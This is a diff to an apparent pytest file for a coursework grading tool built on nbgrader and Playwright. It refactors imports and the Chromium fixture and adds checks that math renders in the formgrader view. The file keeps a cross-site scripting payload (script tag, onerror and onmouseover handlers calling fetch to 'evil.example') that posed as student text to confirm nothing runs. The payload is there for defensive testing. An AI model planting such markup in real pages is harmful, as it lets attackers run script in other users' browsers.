@@ -4,7 +4,6 @@ import contextlib
 import json
 import os
 import re
-import shutil
 import socket
 import subprocess
 import sys
@@ -15,15 +14,12 @@ from pathlib import Path
 import pytest
 from axe_playwright_python.sync_playwright import Axe
 from nbgrader.api import Gradebook
-from playwright.sync_api import Error, sync_playwright
 
-from coursework.course import make
-from coursework.feedback import schemes
-from coursework.grader import grade
+from coursework.making.course import make
+from coursework.marking.grader import grade
+from coursework.showing.feedback import schemes
 
 PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="
-FLAGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run"]
-MISSING = "no browser: install Chromium (Debian: apt install chromium), or run .venv/bin/playwright install chromium"
 RUN = "window.ran=1;fetch('http://evil.example/')"
 ATTACK = f"""\
 I saw a fall, $x^2 < 1$. <script>{RUN}</script><img src=x onerror="{RUN}"> <b onmouseover="{RUN}">bold</b>
@@ -109,19 +105,10 @@ def marked(alone, first, tmp_path_factory):
 
 
 @pytest.fixture(scope="module")
-def browser():
-    """Chromium: the one of CHROMIUM, of the system, or playwright's own."""
-    names = ("chromium", "chromium-browser", "google-chrome", "google-chrome-stable")
-    found = os.environ.get("CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
-    with sync_playwright() as playwright:
-        try:
-            launched = playwright.chromium.launch(executable_path=found, args=FLAGS)
-        except Error:
-            if os.environ.get("CI"):
-                pytest.fail(MISSING)
-            pytest.skip(MISSING)
-        yield launched
-        launched.close()
+def browser(chromium):
+    """Chromium, started once for all pages."""
+    with chromium() as started:
+        yield started
 
 
 class Visit:
@@ -219,6 +206,11 @@ def test_nothing_of_a_student_s_runs_in_formgrader_and_the_scheme_is_there(brows
     conclusion = f"{first.experiment.name}-conclusion"
     scheme = schemes(marked, first, "mallory")[conclusion]
     assert re.sub(r"\W+", "", scheme.split("\n")[0]) in re.sub(r"\W+", "", said)
+    # of the questions, for MathJax could not be fetched
+    asked = visit.page.locator(".cleaned:has(math)").filter(has_not_text="I saw a fall")
+    assert asked.locator("math").count() >= 5
+    assert "$" not in asked.first.inner_text()
+    assert asked.locator("math").first.bounding_box()["height"] > 5
     visit.page.fill(f"#{conclusion}", "1")
     visit.click_everything()
     assert visit.nothing_ran(), (visit.away, visit.said)
